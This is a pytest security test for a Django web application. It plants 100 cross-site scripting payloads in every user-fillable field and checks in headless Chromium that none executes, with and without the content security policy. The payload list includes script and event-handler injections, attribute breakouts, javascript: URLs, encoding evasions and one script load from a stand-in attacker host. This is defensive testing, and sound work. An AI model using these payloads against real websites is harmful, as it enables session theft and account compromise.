"""What people wrote, on the pages of a real browser: nothing of it may run."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from django.conf import settings as configured
from django.urls import reverse
from playwright.sync_api import Browser, BrowserContext, Error, Page, sync_playwright

from reviews.permissions import MATRIX, Permission, Role
from tests import cast as casting
from tests.architecture.test_urls import patterns
from tests.journeys.conftest import SWITCHES
from tests.matrix import world as worlds
from tests.matrix.marks import SIGNED_IN
from tests.matrix.test_urls import BOARD_TO, OPEN_TO, POST_ASKS, REVIEW_TO, arguments
from tests.proof.frame import Claim
from tests.proof.security import poisoned

CLAIM = Claim(
    id="S13",
    says="No words that somebody wrote run as a script, even where the policy for content is off; "
    "and the policy has nothing to refuse in normal use",
    how="100 script strings stand in every field that people fill in, and every page is opened in "
    "Chromium: with the policy off, to see that the pages alone stop them, and with it on, whose "
    "reports are counted by a server of the proof; before that each page as it normally is",
    goal="0 scripts run, 0 reports",
)
pytestmark = pytest.mark.timeout(2400)

TAGS = [
    "<script>ran()</script>",
    "<ScRiPt>ran()</sCrIpT>",
    "<script src=//attacker.example/x.js></script>",
    "<script src=data:text/javascript,ran()></script>",
    "<script type=module>ran()</script>",
    "</script><script>ran()</script>",
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "</style><script>ran()</script>",
    "</option></select><script>ran()</script>",
    "--><script>ran()</script>",
    "]]><script>ran()</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<svg><script>ran()</script></svg>",
    "<math><mtext></mtext><script>ran()</script></math>",
    "<noscript><p title='</noscript><script>ran()</script>'>",
    "<template><script>ran()</script></template>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src='javascript:parent.ran()'></iframe>",
    "<object data='javascript:ran()'></object>",
    "<embed src='javascript:ran()'>",
    "<base href='javascript:ran()//'>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<link rel=stylesheet href='javascript:ran()'>",
    "<link rel=import href='data:text/html,<script>ran()</script>'>",
]
HANDLERS = [
    f"<{tag} {event}=ran(){more}>"
    for tag, event, more in (
        ("img src=x", "onerror", ""),
        ("img src=/static/none", "onerror", "//"),
        ("img src onerror=ran() ", "onload", ""),
        ("svg", "onload", ""),
        ("svg/", "onload", "//"),
        ("body", "onload", ""),
        ("body", "onpageshow", ""),
        ("input autofocus", "onfocus", ""),
        ("select autofocus", "onfocus", ""),
        ("textarea autofocus", "onfocus", ""),
        ("button autofocus", "onfocus", ""),
        ("a href=x autofocus", "onfocus", ""),
        ("details open", "ontoggle", ""),
        ("video", "onloadstart", "><source src=x"),
        ("video><source src=x", "onerror", ""),
        ("audio src=x", "onerror", ""),
        ("object data=x", "onerror", ""),
        ("iframe", "onload", ""),
        ("marquee", "onstart", ""),
        ("style", "onload", "></style"),
        ("link rel=stylesheet href=x", "onerror", ""),
        ("script src=/none", "onerror", "></script"),
        ("svg><animate", "onbegin", " attributeName=x dur=1s"),
        ("svg><image href=x", "onerror", ""),
        ("form><button", "onclick", " autofocus"),
    )
]
BREAKING = [
    *('" onload=ran() x="', "' onload=ran() x='", '" autofocus onfocus=ran() x="'),
    *("' autofocus onfocus=ran() x='", '"><script>ran()</script>', "'><script>ran()</script>"),
    *('"><img src=x onerror=ran()>', "'><img src=x onerror=ran()>", "`><img src=x onerror=ran()>"),
    *('" style="background:url(javascript:ran())', "' style='behavior:url(x)"),
    *("';ran();'", '";ran();"', "`;ran();`", "${ran()}", "'+ran()+'", '"+ran()+"', "\\';ran();//"),
    *("</script><svg onload=ran()>", "\\u003cscript>ran()\\u003c/script>"),
    *("\\x3cscript>ran()\\x3c/script>", "{{constructor.constructor('ran()')()}}", "#{ran()}"),
    *("{%ran()%}", "<%=ran()%>"),
]
ADDRESSES = [
    *("javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", " javascript:ran()"),
    *("javascript://x%0aran()", "data:text/html,<script>parent.ran()</script>", "vbscript:ran()"),
    *("&#106;avascript:ran()", "javascript&colon;ran()", "[x](javascript:ran())"),
    *('![x](x"onerror="ran())', "<a href='javascript:ran()' autofocus>x</a>"),
    *("&lt;script&gt;ran()&lt;/script&gt;", "&amp;lt;script&amp;gt;ran()", "%3Cscript%3Eran()"),
    *("＜script＞ran()＜/script＞", "<img\x0bsrc=x\x0bonerror=ran()>", "<img/src=x/onerror=ran()>"),
    *("<IMG SRC=x ONERROR=ran()>", "<<script>ran();//<</script>", "<script\n>ran()</script\n>"),
    *("<img src='x' onerror='ran()'", "<a onmouseover=ran()>x</a>", "<x onclick=ran() autofocus>"),
    *("<p onpointerenter=ran()>x</p>",),
]
# In Chromium's words: a download, and an address that answers a POST alone, with nothing to show.
NO_PAGE = ("Download is starting", "ERR_ABORTED", "ERR_HTTP_RESPONSE_CODE_FAILURE")
# The page that Chromium shows where there was none may come after the next one was asked for.
UNDER_WAY = "interrupted by another navigation"
STRINGS = [*TAGS, *HANDLERS, *BREAKING, *ADDRESSES]


@dataclass
class Told:
    """What the browser says of itself, and what the policy reports to the proof's own server."""

    reports: list[str] = field(default_factory=list)
    ran: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)
    broken: list[str] = field(default_factory=list)
    at: str = ""

    def serve(self) -> ThreadingHTTPServer:
        told = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                content = self.rfile.read(int(self.headers["Content-Length"]))
                told.reports.append(f"{told.at}: {content.decode()[:300]}")
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        return ThreadingHTTPServer(("127.0.0.1", 0), Handler)


@pytest.fixture
def told(settings) -> Iterator[Told]:
    told = Told()
    with told.serve() as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        policy = {key: dict(value) for key, value in configured.CONTENT_SECURITY_POLICY.items()}
        policy["DIRECTIVES"]["report-uri"] = [f"http://127.0.0.1:{server.server_port}/"]
        settings.CONTENT_SECURITY_POLICY = policy
        yield told
        server.shutdown()


@pytest.fixture
def chromium() -> Iterator[Browser]:
    import os

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=os.environ["CHROMIUM"], args=SWITCHES, headless=True
        )
        yield browser
        browser.close()


def pages(world: worlds.World) -> Iterator[tuple[str, str, str]]:
    """Every address that has a page, and who opens it: name, address, person."""
    for name, pattern in patterns():
        rule: Any = REVIEW_TO.get(name) or ({BOARD_TO[name]} if name in BOARD_TO else None)
        if (rule is None and OPEN_TO.get(name) != SIGNED_IN) or "logout" in name:
            continue
        order = [Role.LEAD, Role.UNIT, Role.LIAISON, Role.CHAIR, Role.MEMBER]
        who = [role for role in order if rule is None or MATRIX[role] & set(rule)]
        if Permission.READ_MARKERS not in MATRIX[Role.LIAISON] and "quality_markers" in name:
            who = [role for role in who if role != Role.LIAISON] or who
        try:
            address = reverse(name, kwargs=world.kwargs(name, arguments(pattern, name)))
        except KeyError:
            continue
        if who:
            yield name, address, who[0].value


def _nothing_to_show(error: Error) -> bool:
    """False, for no page was shown. Raises AssertionError for anything else."""
    assert any(each in str(error) for each in NO_PAGE), str(error)
    return False


class Reader:
    """One browser, with a context for each person."""

    def __init__(self, chromium: Browser, told: Told, address: str, sign_in: Any, world: Any):
        self.chromium, self.told, self.address = chromium, told, address
        self.sign_in, self.world = sign_in, world

    @contextmanager
    def contexts(self, *, policy: bool) -> Iterator[dict[str, Page]]:
        opened: list[BrowserContext] = []
        found: dict[str, Page] = {}
        for who in ("lead", "unit", "liaison", "chair", "member"):
            context = self.chromium.new_context(bypass_csp=not policy)
            opened.append(context)
            session = self.sign_in(self.world.people[who]).cookies[configured.SESSION_COOKIE_NAME]
            context.add_cookies(
                [{"name": session.key, "value": session.value, "url": self.address}]
            )
            context.expose_function("ran", lambda *args: self.told.ran.append(self.told.at))
            context.on("request", self._asked)
            context.on("response", self._answered)
            found[who] = context.new_page()
            found[who].on("dialog", self._dialog)
        yield found
        for context in opened:
            context.close()

    def _asked(self, request: Any) -> None:
        if not request.url.startswith((self.address, "data:", "about:", "blob:")):
            self.told.asked.append(f"{self.told.at} asked for {request.url[:100]}")

    def _answered(self, response: Any) -> None:
        if response.status >= 500:
            self.told.broken.append(f"{self.told.at}: {response.status}")

    def _dialog(self, dialog: Any) -> None:
        self.told.ran.append(self.told.at)
        dialog.dismiss()

    def read(self, found: list[tuple[str, str, str]], *, policy: bool) -> int:
        """Returns how many pages were shown; a download is none."""
        shown = 0
        with self.contexts(policy=policy) as tabs:
            for name, path, who in found:
                self.told.at = name
                shown += self._open(tabs[who], path)
                if name in POST_ASKS:
                    shown += self._press(tabs[who], path)
        return shown

    def _open(self, tab: Page, path: str) -> bool:
        try:
            answer = tab.goto(self.address + path, wait_until="load")
        except Error as error:
            if UNDER_WAY in str(error):
                tab.wait_for_timeout(100)
                return self._open(tab, path)
            return _nothing_to_show(error)
        return answer is not None and answer.status == 200

    def _press(self, tab: Page, path: str) -> bool:
        """Real names are in the answer to a POST alone."""
        form = tab.locator("main form[method=post]").first
        if not form.count():
            return False
        try:
            with tab.expect_navigation():
                form.evaluate("each => each.requestSubmit()")
        except Error as error:
            return _nothing_to_show(error)
        return True

    def is_reported(self) -> bool:
        """A script that somebody got into a page after all: else no report would mean nothing."""
        with self.contexts(policy=True) as tabs:
            self._open(tabs["lead"], reverse("home"))
            before, self.told.at = len(self.told.reports), "on purpose"
            inside = "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=ran()>')"
            tabs["lead"].evaluate(inside)
            for _wait in range(50):
                if len(self.told.reports) > before:
                    return True
                tabs["lead"].wait_for_timeout(100)
        return False


def test_the_proof_sees_what_runs(chromium, told):
    """Else nothing found would mean nothing."""
    context = chromium.new_context()
    context.expose_function("ran", lambda *args: told.ran.append("here"))
    tab = context.new_page()
    for each in (TAGS[0], HANDLERS[0], HANDLERS[3], BREAKING[6]):
        before = len(told.ran)
        tab.set_content(f'<p title="">{each}</p>')
        tab.wait_for_timeout(200)
        assert len(told.ran) > before, each
    context.close()


def test_no_words_run_as_a_script(claim, scale, chromium, told, live_server, sign_in, cast):
    assert len(STRINGS) == 100
    assert len(set(STRINGS)) == 100
    world = worlds.make(cast)
    found = sorted(pages(world))
    found = found[:: max(1, len(found) // scale(quick=8, whole=10_000))]
    reader = Reader(chromium, told, live_server.url, sign_in, world)
    normal = reader.read(found, policy=True)
    in_normal_use = len(told.reports)
    fields, kept = poisoned.poison(STRINGS)
    assert len(kept) < fields / 10, kept
    bare = reader.read(found, policy=False)
    guarded = reader.read(found, policy=True)
    wrong = [*told.ran, *told.asked, *told.reports, *told.broken]
    print(*wrong, sep="\n")
    claim.measured(
        figure=f"100 strings in {fields} fields, {bare} pages without the policy and {guarded} "
        f"with it: {len(told.ran)} scripts run, {len(told.asked)} requests elsewhere, "
        f"{len(told.reports) - in_normal_use} reports; {in_normal_use} reports of {normal} pages "
        f"in normal use; {len(told.broken)} pages failed"
        + "".join(f"; {each}" for each in wrong[:5]),
        holds=not wrong and bare >= len(found) / 2 and reader.is_reported(),
    )


@pytest.fixture
def cast(transactional_db) -> casting.Cast:
    return casting.gather()
